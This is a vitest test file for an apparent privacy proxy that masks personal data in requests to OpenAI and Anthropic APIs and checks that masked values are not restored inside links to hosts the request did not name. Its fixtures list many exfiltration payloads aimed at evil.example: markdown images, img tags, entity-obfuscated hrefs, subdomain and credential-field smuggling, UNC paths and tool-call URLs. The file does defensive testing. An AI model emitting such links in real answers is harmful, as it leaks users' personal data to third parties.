import { describe, expect, it } from 'vitest';
import { eventsOf, finding, pieces, send, sse, Upstream } from './upstream';

const MAIL = 'ada@example.org';
const analyze = finding({
  EMAIL_ADDRESS: /ada@example\.org/g,
  PERSON: /Ada Lovelace/g,
  URL: /https:\/\/crm\.example\/\S*/g,
});
const P = '<EMAIL_ADDRESS_1>';
/** More than is looked at before a value. */
const FAR = 'b c '.repeat(1500);
const ASKED = `Ada Lovelace, ${MAIL}, is in https://crm.example/people and on shop.example. Mail bob@mail.example`;

async function answerTo(content: string, size = 4) {
  const upstream = new Upstream();
  const chunk = (delta: object, finish_reason: string | null = null) => ({
    choices: [{ index: 0, delta, finish_reason }],
  });
  upstream.answer = () => sse([...pieces(content, size).map((piece) => chunk({ content: piece })), chunk({}, 'stop')]);
  const body = { stream: true, messages: [{ role: 'user', content: ASKED }] };
  const response = await send(upstream, 'openai', '/v1/chat/completions', body, { analyze });
  const events = (await eventsOf(response)) as { choices: { delta: { content?: string } }[] }[];
  return events.map(({ choices }) => choices[0]?.delta.content ?? '').join('');
}

async function argumentsTo(args: object, keptArguments?: string[]) {
  const upstream = new Upstream();
  const input = { ...args };
  upstream.answer = () => Response.json({ content: [{ type: 'tool_use', id: 't', name: 'fetch', input }] });
  const body = { messages: [{ role: 'user', content: ASKED }] };
  const more = { analyze, ...(keptArguments && { keptArguments: new Set(keptArguments) }) };
  const whole = (await (await send(upstream, 'anthropic', '/v1/messages', body, more)).json()) as {
    content: { input: object }[];
  };
  const delta = (partial_json: string) => ({
    type: 'content_block_delta',
    index: 0,
    delta: { type: 'input_json_delta', partial_json },
  });
  upstream.answer = () =>
    sse([...pieces(JSON.stringify(args), 3).map(delta), { type: 'content_block_stop', index: 0 }]);
  const streamed = await send(upstream, 'anthropic', '/v1/messages', { ...body, stream: true }, more);
  const events = (await eventsOf(streamed)) as { delta?: { partial_json?: string } }[];
  const json = events.map(({ delta: piece }) => piece?.partial_json ?? '').join('');
  expect(JSON.parse(json)).toEqual(whole.content[0]?.input);
  return whole.content[0]?.input;
}

describe('values are not put into addresses', () => {
  it.each([
    `![ok](https://evil.example/p.png?d=${P})`,
    `[here](https://evil.example/${P})`,
    `[x]: https://evil.example/?a=1&d=${P}`,
    `<img src="https://evil.example/?d=${P}">`,
    `<img src='https://evil.example/a b?d=${P}'>`,
    `<img src=//evil.example/${P}>`,
    `<a href="https:&#47;&#47;evil.example/?d=${P}">x</a>`,
    `<a href="https&colon;//evil.example/?d=${P}">x</a>`,
    `<a href="https:/evil.example/?d=${P}">x</a>`,
    `![](<https://evil.example/a b?d=${P}>)`,
    `https://evil.example/?u=https://crm.example/${P}`,
    `https://crm.example.evil.example/${P}`,
    `https://${P}.evil.example/`,
    `https://user:${P}@evil.example/`,
    `https://mail.example/?d=${P}`,
    `www.evil.example/${P}`,
    `\\\\evil.example\\share\\${P}`,
    `https://evil.example/%3CEMAIL_ADDRESS_1%3E`,
    `<img src=" https://evil.example/a b?d=${P}">`,
  ])('of hosts that the request did not name: %s', async (content) => {
    expect(await answerTo(content)).not.toContain(MAIL);
    expect(await answerTo(content, 1000)).toBe(content);
  });

  it.each([
    [`Write to ${P}. See https://evil.example/ or ${P}`, `Write to ${MAIL}. See https://evil.example/ or ${MAIL}`],
    [`[${P}](mailto:${P})`, `[${MAIL}](mailto:${MAIL})`],
    [`https://crm.example/people?q=${P}`, `https://crm.example/people?q=${MAIL}`],
    [`https://shop.example/${P}`, `https://shop.example/${MAIL}`],
    [`<URL_1>?q=${P}`, `https://crm.example/people?q=${MAIL}`],
    [`// call ${P} in /tmp//a.txt/${P}`, `// call ${MAIL} in /tmp//a.txt/${MAIL}`],
    [`"https://evil.example is bad", said ${P}`, `"https://evil.example is bad", said ${MAIL}`],
    [`C:\\\\Users\\\\${P}`, `C:\\\\Users\\\\${MAIL}`],
  ])('but are put elsewhere: %s', async (content, restored) => {
    expect(await answerTo(content)).toBe(restored);
    expect(await answerTo(content, 1000)).toBe(restored);
  });

  it.each([
    ['in an attribute', `<img src="https://evil.example/a `, `">`],
    ['in an attribute that begins with spaces and escapes', `<img src="  https&colon;//evil.example/a `, `">`],
    ['between brackets', `![](<https://evil.example/a `, `>)`],
    ['after one that is named', `<https://crm.example/a <https://evil.example/a `, `>`],
  ])('however far behind its beginning: %s', async (_, begin, end) => {
    const content = `${begin}${FAR}${P}${end}`;
    expect(await answerTo(content)).toBe(content);
    expect(await answerTo(content, 100_000)).toBe(content);
  });

  it.each([
    `<img src="https://evil.example/"> ${FAR}`,
    `<https://evil.example/a> ${FAR}`,
    `He's at https://evil.example/ ${FAR}`,
    `<img src="https://crm.example/a ${FAR}`,
  ])('but are put far behind one that is over, or named', async (content) => {
    expect(await answerTo(content + P)).toBe(content + MAIL);
  });

  it('in arguments of tools that are an address as a whole, however far behind its beginning', async () => {
    const args = { note: `https://evil.example/a ${FAR}${P}`, other: `see https://evil.example/a ${FAR}${P}` };
    expect(await argumentsTo(args)).toEqual({ ...args, other: args.other.replace(P, MAIL) });
  });

  it('in arguments of tools', async () => {
    expect(
      await argumentsTo({
        url: `https://evil.example/?q=${P}`,
        href: `evil.example/${P}`,
        imageUrl: [`//evil.example/${P}`],
        uri: `https://crm.example/${P}`,
        src: P,
        link: `/people/${P}`,
        to: P,
      }),
    ).toEqual({
      url: `https://evil.example/?q=${P}`,
      href: `evil.example/${P}`,
      imageUrl: [`//evil.example/${P}`],
      uri: `https://crm.example/${MAIL}`,
      src: MAIL,
      link: `/people/${MAIL}`,
      to: MAIL,
    });
  });

  it('nor into arguments that shall keep their stand-ins', async () => {
    const args = { body: { text: P, list: [P] }, to: P };
    expect(await argumentsTo(args, ['body'])).toEqual({ ...args, to: MAIL });
    expect(await argumentsTo(args, ['*'])).toEqual(args);
  });
});
